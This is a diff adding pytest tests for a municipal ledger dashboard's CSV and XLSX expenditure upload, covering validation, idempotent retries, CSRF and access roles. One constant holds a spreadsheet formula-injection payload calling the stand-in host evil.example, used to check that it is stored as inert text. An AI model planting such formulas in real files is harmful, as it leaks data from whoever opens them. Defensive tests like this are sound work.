@@ -4,15 +4,20 @@ runs the API's own command and rules, answering with the event id and the balanc
 
 from __future__ import annotations
 
+import io
 import re
 import threading
 from collections.abc import Iterator
+from datetime import date
+from decimal import Decimal
 
 import pytest
 from flask.testing import FlaskClient
 
 from contracts.topics import EXPENDITURES
+from services.common.spreadsheet import xlsx_bytes
 from services.ledger.adapters.http import dashboard
+from services.ledger.domain.model import Expenditure
 from services.ledger.entrypoints.projector import build_runner
 from services.ledger.read_side import PointInTime
 from tests.operators.conftest import World, build_world, project_until
@@ -21,6 +26,7 @@ from tests.support.infra import KafkaInfo
 from tests.support.kafka_topics import publish_all
 
 CODE = "GM0363"
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"klik")'
 JOURNAL = f"/dashboard/municipalities/{CODE}/2024/journal"
 EVENT_ROW = re.compile(r'<tr data-event-id="([0-9a-f-]{36})" data-event-type="(\w+)"')
 FORM_FIELD = re.compile(r'name="(csrf_token|idempotency_key)" value="([^"]+)"')
@@ -149,3 +155,72 @@ def test_only_the_municipality_itself_reverses(world: World, role: str, code: st
     stored = world.ledger.extensions["ledger"].application.recorder.max_notification_id()
     assert other.post(link, data={**fields, "reason": "not mine"}).status_code == 403
     assert world.ledger.extensions["ledger"].application.recorder.max_notification_id() == stored
+
+
+UPLOAD = f"/dashboard/municipalities/{CODE}/upload"
+CSV_HEADER = "grant_year,category,amount,booked_on,counterparty_id,counterparty_name,description,reference\n"
+
+
+def _stored(world: World) -> int:
+    return int(world.ledger.extensions["ledger"].application.recorder.max_notification_id() or 0)
+
+
+def _upload(client: FlaskClient, fields: dict[str, str], name: str, data: bytes) -> tuple[int, str]:
+    answer = client.post(UPLOAD, data={**fields, "file": (io.BytesIO(data), name)},
+                         content_type="multipart/form-data")
+    return answer.status_code, answer.get_data(as_text=True)
+
+
+def test_uploading_a_csv_or_an_xlsx_records_all_rows_or_none_and_names_every_refused_line(world: World) -> None:
+    client = _client(world)
+    assert 'id="upload-link"' in client.get(f"/dashboard/municipalities/{CODE}/2024").get_data(as_text=True)
+    fields = _form(client, UPLOAD)
+    before = _stored(world)
+
+    bad_csv = (CSV_HEADER + "2024,promotion,\"1.250,00\",2024-06-01,P-1,Printer,posters,UP-1\n"
+               "2024,promotion,1.250,2024-06-01,P-1,Printer,posters,UP-2\n"
+               "2024,beer,10,2024-06-01,P-1,Printer,posters,UP-3\n").encode()
+    status, page = _upload(client, fields, "uitgaven.csv", bad_csv)
+    assert status == 422 and 'data-line="line 3.amount"' in page and 'data-line="line 4.category"' in page
+    assert 'data-line="line 2' not in page and _stored(world) == before  # nothing stored on any error
+
+    rows = [[2024, "promotion", Decimal("1250.50"), date(2024, 6, 1), "P-1", "Printer", HOSTILE, "UP-4"],
+            [2024, "network_orchestration", 3, date(2024, 6, 2), "W-1", "Wijkteam", "meeting", "UP-5"]]
+    header = CSV_HEADER.strip().split(",")
+    status, page = _upload(client, fields, "uitgaven.xlsx", xlsx_bytes("import", header, rows))
+    assert status == 201, page[:600]
+    assert _stored(world) == before + 2
+    found = {e.reference: e for e in _expenditures(world)}
+    assert found["UP-4"].amount_cents == 125050 and found["UP-4"].description == HOSTILE  # text, as typed
+    assert found["UP-5"].amount_cents == 300 and str(found["UP-5"].booked_on) == "2024-06-02"
+    again_status, again = _upload(client, fields, "uitgaven.xlsx", xlsx_bytes("import", header, rows))
+    assert again_status == 201 and _stored(world) == before + 2  # the same form again: a retry, not a second import
+
+    fresh = _form(client, UPLOAD)
+    third_of_a_cent = [[2024, "promotion", Decimal("10.005"), date(2024, 6, 3), "P-1", "Printer", "x", "UP-6"]]
+    status, page = _upload(client, fresh, "u.xlsx", xlsx_bytes("import", header, third_of_a_cent))
+    assert status == 422 and 'data-line="line 2.amount"' in page and _stored(world) == before + 2
+    for name, data in (("u.xlsx", b"not a zip"), ("u.pdf", b"%PDF-1.4"), ("u.csv", "é".encode("latin-1"))):
+        status, page = _upload(client, fresh, name, data)
+        assert status == 422 and 'id="refusal"' in page, name
+    assert _stored(world) == before + 2
+    no_csrf = client.post(UPLOAD, data={"idempotency_key": fresh["idempotency_key"],
+                                        "file": (io.BytesIO(bad_csv), "u.csv")}, content_type="multipart/form-data")
+    assert no_csrf.status_code == 403
+
+
+@pytest.mark.parametrize(("role", "code"), [("auditor", None), ("municipality", "GM0599")])
+def test_only_the_municipality_itself_uploads(world: World, role: str, code: str | None) -> None:
+    other = _client(world, role, code)
+    assert other.get(UPLOAD).status_code == 403
+    fields = dict(FORM_FIELD.findall(other.get("/dashboard/login").get_data(as_text=True)))
+    fields["idempotency_key"] = "5d1f0c4e-2b1a-4c3d-8e9f-0a1b2c3d4e5f"
+    before = _stored(world)
+    data = (CSV_HEADER + "2024,promotion,10,2024-06-01,P-1,Printer,posters,X-1\n").encode()
+    assert _upload(other, fields, "u.csv", data)[0] == 403 and _stored(world) == before
+
+
+def _expenditures(world: World) -> list[Expenditure]:
+    application = world.ledger.extensions["ledger"].application
+    ids = {item.originator_id for item in application.recorder.select_notifications(start=1, limit=10_000)}
+    return [found for found in (application.repository.get(i) for i in ids) if isinstance(found, Expenditure)]
